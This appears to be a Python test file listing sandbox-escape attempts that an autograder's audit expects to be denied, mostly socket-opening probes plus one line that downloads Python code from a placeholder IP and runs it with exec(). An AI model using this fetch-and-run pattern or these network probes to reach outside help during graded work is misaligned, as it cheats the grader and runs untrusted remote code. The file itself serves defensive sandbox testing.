"""Asks somebody outside for the answers."""

from dataclasses import replace

from autograder.audit.attack import ANY, NONE, Attack, denied


def reach(name: str, code: str) -> Attack:
    return Attack(name, "1.3 ReLU, forward", denied("import socket\n" + code))


CORPUS = [
    reach("TCP over IPv4", "server = socket.create_server(('127.0.0.1', 0)); socket.create_connection(server.getsockname(), timeout=1)"),
    reach(
        "TCP over IPv6",
        "server = socket.create_server(('::1', 0), family=socket.AF_INET6); socket.create_connection(server.getsockname()[:2], 1)",
    ),
    reach("UDP", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', 9))"),
    reach("a unix socket", "s = socket.socket(socket.AF_UNIX); s.bind('door'); s.listen()"),
    reach("an abstract unix socket", "s = socket.socket(socket.AF_UNIX); s.bind('\\0ps2-door'); s.listen()"),
    reach("a netlink socket", "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0))"),
    reach("a raw packet socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    reach("a vsock", "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)"),
    Attack(
        "downloads text and runs it",
        "1.3 ReLU, forward",
        "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/relu.py', timeout=1).read())\nprint('GOT IN')",
    ),
]

ATTACKS = [a if a.safe_without != NONE else replace(a, safe_without=ANY) for a in CORPUS]
